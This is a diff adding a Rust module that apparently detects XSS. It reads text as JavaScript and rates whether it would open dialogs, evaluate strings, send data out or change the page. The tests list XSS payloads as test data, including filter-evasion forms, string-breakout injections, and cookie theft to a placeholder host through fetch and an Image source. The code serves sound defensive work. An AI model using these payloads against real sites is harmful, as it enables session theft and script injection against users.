@@ -1,0 +1,473 @@
+//! Reads a text as JavaScript as far as it is JavaScript, and says what it would do.
+//!
+//! The reader knows where an operand and where an operator may stand; two operands in a row, as in any
+//! prose, end the reading. It follows chains of members (`top['al'+'ert']`), calls, tagged templates and
+//! assignments, and undoes escapes inside identifiers. One pass, a stack of fixed height.
+
+use super::names::{self, Flags};
+
+/// What a text does, read as a program.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
+pub(super) enum Strength {
+    /// It is no program, or an expression without effect.
+    Nothing,
+    /// It calls, assigns or throws something.
+    Code,
+    /// It opens a dialog, runs a string, sends something away, or changes the page.
+    Sink,
+}
+
+/// A text read as a program.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub(super) struct Reading {
+    /// What it does.
+    pub(super) strength: Strength,
+    /// Where the reading ended.
+    pub(super) end: usize,
+    /// Whether all of the text is a program.
+    pub(super) whole: bool,
+    /// Whether a dialog is opened or a string is run.
+    pub(super) telling: bool,
+}
+
+/// What stands before the text in the program around it.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub(super) enum Before {
+    /// Nothing, or the end of a statement.
+    Statement,
+    /// A value, such as a string that was just closed.
+    Operand,
+}
+
+/// How deep brackets are followed.
+const HEIGHT: usize = 32;
+
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Bracket {
+    Group,
+    Head,
+    Call,
+    Member,
+    Other,
+}
+
+struct Reader<'a> {
+    text: &'a [u8],
+    at: usize,
+    /// An operand was just read.
+    operand: bool,
+    /// A line or block ended since: another operand may follow.
+    soft: bool,
+    /// The next bracket is the head of `if`, `for`, `while` …
+    head: bool,
+    /// The next word is the name of a member.
+    member: bool,
+    /// What the current chain of members leads to.
+    chain: u16,
+    /// Everything that was named.
+    named: u16,
+    stack: [(Bracket, u16); HEIGHT],
+    depth: usize,
+    acts: bool,
+    sink: bool,
+    telling: bool,
+    /// A member that matters is being assigned.
+    assigning: bool,
+}
+
+/// Reads the text from `at` on.
+pub(super) fn read(text: &[u8], at: usize, before: Before) -> Reading {
+    let mut reader = Reader {
+        text,
+        at,
+        operand: before == Before::Operand,
+        soft: false,
+        head: false,
+        member: false,
+        chain: 0,
+        named: 0,
+        stack: [(Bracket::Other, 0); HEIGHT],
+        depth: 0,
+        acts: false,
+        sink: false,
+        telling: false,
+        assigning: false,
+    };
+    let whole = reader.run();
+    if whole {
+        reader.unwind();
+    }
+    if reader.named & (Flags::DIALOG | Flags::EVAL) != 0 && reader.acts {
+        reader.sink = true;
+        reader.telling = true;
+    }
+    if reader.named & Flags::SECRET != 0 && reader.acts {
+        reader.sink = true;
+    }
+    let strength = match (reader.sink, reader.acts) {
+        (true, _) => Strength::Sink,
+        (false, true) => Strength::Code,
+        (false, false) => Strength::Nothing,
+    };
+    Reading {
+        strength,
+        end: reader.at,
+        whole,
+        telling: reader.telling,
+    }
+}
+
+impl Reader<'_> {
+    fn byte(&self, at: usize) -> Option<u8> {
+        self.text.get(at).copied()
+    }
+
+    fn rest(&self) -> &[u8] {
+        self.text.get(self.at..).unwrap_or_default()
+    }
+
+    /// Reads to the end; whether everything was a program.
+    fn run(&mut self) -> bool {
+        while let Some(byte) = self.byte(self.at) {
+            let read = match byte {
+                b'\n' | b'\r' => {
+                    self.soft = true;
+                    self.step(1)
+                }
+                0..=b' ' => self.step(1),
+                b'0'..=b'9' => self.number(),
+                b'"' | b'\'' => self.string(byte),
+                b'`' => self.template(),
+                b'(' | b'[' | b'{' => self.open(byte),
+                b')' | b']' | b'}' => self.close(byte),
+                b'.' => self.dot(),
+                b'/' => self.slash(),
+                _ if names::is_letter(byte) || byte == b'\\' => self.word(),
+                _ => self.operator(byte),
+            };
+            if !read {
+                return false;
+            }
+        }
+        true
+    }
+
+    fn step(&mut self, len: usize) -> bool {
+        self.at += len;
+        true
+    }
+
+    /// A new operand begins; whether one may stand here.
+    fn begin(&mut self, flags: u16) -> bool {
+        if self.operand && !self.soft {
+            return false;
+        }
+        self.operand = true;
+        self.soft = false;
+        self.chain = flags;
+        true
+    }
+
+    fn number(&mut self) -> bool {
+        let letters = |byte: &&u8| byte.is_ascii_alphanumeric() || **byte == b'.';
+        let len = self.rest().iter().take_while(letters).count();
+        self.begin(0) && self.step(len)
+    }
+
+    fn string(&mut self, quote: u8) -> bool {
+        if !self.begin(Flags::LITERAL) {
+            return false;
+        }
+        let begin = self.at + 1;
+        let mut at = begin;
+        while let Some(byte) = self.byte(at) {
+            match byte {
+                b'\\' => at += 1,
+                _ if byte == quote => break,
+                _ => {}
+            }
+            at += 1;
+        }
+        let content = self.text.get(begin..at.min(self.text.len())).unwrap_or_default();
+        self.named |= names::flags(content) & Flags::CONSTRUCTOR;
+        if let Some((Bracket::Member, chain)) = self.top() {
+            *chain |= names::flags(content);
+        }
+        if self.assigning {
+            self.sink = true;
+        }
+        self.at = (at + 1).min(self.text.len());
+        true
+    }
+
+    fn top(&mut self) -> Option<&mut (Bracket, u16)> {
+        self.stack.get_mut(self.depth.checked_sub(1)?)
+    }
+
+    fn template(&mut self) -> bool {
+        if self.operand {
+            self.call(self.chain);
+        } else if !self.begin(Flags::LITERAL) {
+            return false;
+        }
+        let rest = self.text.get(self.at + 1..).unwrap_or_default();
+        let len = memchr::memchr(b'`', rest).map_or(rest.len(), |end| end + 1);
+        self.step(len + 1)
+    }
+
+    /// Something is called: what the chain leads to.
+    fn call(&mut self, chain: u16) {
+        let any = |flags: u16| chain & flags != 0;
+        let runs = any(Flags::DIALOG | Flags::EVAL | Flags::CONSTRUCTOR);
+        let reached = any(Flags::COMPUTED) && any(Flags::GLOBAL | Flags::LITERAL);
+        self.acts = true;
+        self.telling |= runs || reached;
+        self.sink |= runs || reached || any(Flags::NET) || (any(Flags::WEAK) && any(Flags::GLOBAL));
+    }
+
+    fn open(&mut self, byte: u8) -> bool {
+        let kind = match byte {
+            b'(' if std::mem::take(&mut self.head) => Bracket::Head,
+            b'(' if self.operand => Bracket::Call,
+            b'(' => Bracket::Group,
+            b'[' if self.operand => Bracket::Member,
+            _ => Bracket::Other,
+        };
+        if let Some(place) = self.stack.get_mut(self.depth) {
+            *place = (kind, self.chain);
+        }
+        self.depth += 1;
+        self.operand = false;
+        self.soft = false;
+        self.member = false;
+        self.step(1)
+    }
+
+    fn close(&mut self, byte: u8) -> bool {
+        self.member = false;
+        self.soft = byte == b'}';
+        self.operand = true;
+        if self.depth == 0 {
+            // The bracket was opened before the text.
+            return self.step(1);
+        }
+        self.depth -= 1;
+        let (kind, chain) = self.stack.get(self.depth).copied().unwrap_or((Bracket::Other, 0));
+        match kind {
+            Bracket::Head => {
+                self.operand = false;
+                self.soft = true;
+            }
+            Bracket::Call => {
+                self.call(chain);
+                self.chain = chain;
+            }
+            Bracket::Member => self.chain = chain | Flags::COMPUTED,
+            Bracket::Other if byte == b']' => self.chain = Flags::LITERAL,
+            Bracket::Other | Bracket::Group => {}
+        }
+        self.step(1)
+    }
+
+    /// The text ends inside brackets: the program around it, or nothing, closes them.
+    fn unwind(&mut self) {
+        while self.depth > 0 {
+            self.depth -= 1;
+            if let Some((Bracket::Call, chain)) = self.stack.get(self.depth).copied() {
+                self.call(chain);
+            }
+        }
+    }
+
+    fn dot(&mut self) -> bool {
+        if self.byte(self.at + 1).is_some_and(|byte| byte.is_ascii_digit()) && !self.operand {
+            return self.number();
+        }
+        if self.rest().starts_with(b"...") {
+            self.operand = false;
+            return self.step(3);
+        }
+        self.member = true;
+        std::mem::take(&mut self.operand) && self.step(1)
+    }
+
+    fn slash(&mut self) -> bool {
+        let rest = self.text.get(self.at + 1..).unwrap_or_default();
+        match rest.first() {
+            Some(b'/') => {
+                let len = memchr::memchr2(b'\n', b'\r', rest).unwrap_or(rest.len());
+                self.step(len + 1)
+            }
+            Some(b'*') => {
+                let end = memchr::memmem::find(rest, b"*/").map_or(rest.len(), |end| end + 2);
+                self.step(end + 1)
+            }
+            _ if self.operand => self.infix(1),
+            _ => {
+                let mut escaped = false;
+                let end = rest.iter().position(|byte| {
+                    let ends = (*byte == b'/' && !escaped) || *byte == b'\n';
+                    escaped = *byte == b'\\' && !escaped;
+                    ends
+                });
+                let Some(end) = end.filter(|end| rest.get(*end) == Some(&b'/')) else {
+                    return false;
+                };
+                let flags = rest.get(end + 1..).unwrap_or_default().iter();
+                let flags = flags.take_while(|byte| byte.is_ascii_lowercase()).count();
+                self.begin(Flags::LITERAL) && self.step(end + 2 + flags)
+            }
+        }
+    }
+
+    fn word(&mut self) -> bool {
+        let (word, len) = names::word(self.rest());
+        let word = word.bytes();
+        if len == 0 {
+            return false;
+        }
+        let flags = names::flags(word);
+        if std::mem::take(&mut self.member) {
+            self.operand = true;
+            self.chain |= flags | Flags::MEMBER;
+            self.names(flags, word);
+            return self.step(len);
+        }
+        match names::keyword(word) {
+            Some(names::Keyword::Infix) if self.operand => return self.infix(len),
+            Some(keyword) => {
+                if self.operand && !self.soft {
+                    return false;
+                }
+                self.head = keyword == names::Keyword::Head;
+                self.acts |= keyword == names::Keyword::Throw;
+                self.operand = false;
+                self.chain = 0;
+                return self.step(len);
+            }
+            None => {}
+        }
+        if !self.begin(flags) {
+            return false;
+        }
+        self.names(flags, word);
+        self.step(len)
+    }
+
+    fn names(&mut self, flags: u16, word: &[u8]) {
+        self.named |= flags & (Flags::DIALOG | Flags::EVAL);
+        if flags & Flags::SECRET != 0 && self.chain & Flags::GLOBAL != 0 {
+            self.named |= Flags::SECRET;
+        }
+        self.acts |= matches!(word, b"valueOf" | b"toString") && self.depth > 0;
+        if self.assigning && (flags & Flags::GLOBAL != 0 || word == b"name") {
+            self.sink = true;
+        }
+    }
+
+    fn infix(&mut self, len: usize) -> bool {
+        let fits = self.operand;
+        self.operand = false;
+        self.soft = false;
+        self.chain = 0;
+        fits && self.step(len)
+    }
+
+    fn operator(&mut self, byte: u8) -> bool {
+        let rest = self.rest();
+        match byte {
+            b';' | b',' => {
+                self.operand = false;
+                self.soft = false;
+                self.chain = 0;
+                self.assigning = false;
+                self.step(1)
+            }
+            b'=' if rest.starts_with(b"==") => self.infix(if rest.starts_with(b"===") { 3 } else { 2 }),
+            b'=' if rest.starts_with(b"=>") => self.infix(2),
+            b'=' => {
+                let any = |flags: u16| self.chain & flags != 0;
+                self.assigning |= any(Flags::TARGET)
+                    || (any(Flags::GLOBAL) && any(Flags::PLACE) && any(Flags::MEMBER));
+                self.acts |= self.operand;
+                self.infix(1)
+            }
+            b'<' | b'>' | b'!' if rest.get(1) == Some(&b'=') => self.infix(2),
+            b'?' if rest.starts_with(b"?.") => {
+                self.member = rest.get(2).is_some_and(|byte| names::is_letter(*byte));
+                self.operand &= !self.member;
+                self.step(2)
+            }
+            b'+' | b'-' | b'!' | b'~' => {
+                // These may also stand before an operand, and after one.
+                self.operand = false;
+                self.soft = false;
+                self.chain = 0;
+                self.step(1)
+            }
+            b'&' | b'|' | b'*' | b'?' if rest.get(1) == Some(&byte) => self.infix(2),
+            b'*' | b'%' | b'&' | b'|' | b'^' | b'?' | b':' | b'<' | b'>' => self.infix(1),
+            _ => false,
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn strength(text: &str, before: Before) -> Strength {
+        read(text.as_bytes(), 0, before).strength
+    }
+
+    #[test]
+    fn programs_that_do_something_are_read() {
+        for text in [
+            "alert(1)",
+            "alert`1`",
+            "\\u0061lert(1)",
+            "top['al'+'ert'](1)",
+            "window[/al/.source+/ert/.source](1)",
+            "[8].some(confirm)",
+            "a=alert,a(1)",
+            "onerror=alert;throw 1",
+            "{onerror=eval}throw'=alert\\x281\\x29'",
+            "location=name",
+            "location.href='//x'",
+            "[].filter.constructor('alert(1)')()",
+            "[]['filter']['constructor']('alert(1)')()",
+            "if(1){alert(1)}",
+            "for(;;)alert(1)",
+            "fetch('//x/'+document.cookie)",
+            "new Function`al\\ert\\`1\\``",
+            "(alert)(1)",
+            "(0,eval)('x')",
+            "import('//x')",
+            "with(document)alert(cookie)",
+            "document.write('x')",
+            "new Image().src='//x/'+document.cookie",
+            "alert(1",
+            "/*x*/alert//\n(1)",
+            "x={valueOf:alert};+x",
+        ] {
+            assert_eq!(strength(text, Before::Statement), Strength::Sink, "{text}");
+        }
+    }
+
+    #[test]
+    fn programs_that_continue_a_closed_string_are_read() {
+        for text in ["-alert(1)-'", ";alert(1)//", "+alert(1)+", "}]);alert(1);//", ",alert(1))", "||alert`1`||", "\nalert(1)", "?alert(1):0", " in alert(1)//"] {
+            assert_eq!(strength(text, Before::Operand), Strength::Sink, "{text}");
+        }
+    }
+
+    #[test]
+    fn prose_and_plain_values_are_not() {
+        for text in [
+            "hello", "1", "Hello, world", "a-b_c", "x; y", "true", "please alert (the team) now", "don't alert(1)",
+            "Mozilla/5.0 (X11; Linux x86_64)", "price (net)", "1/2", "",
+        ] {
+            assert_ne!(strength(text, Before::Statement), Strength::Sink, "{text}");
+        }
+    }
+}
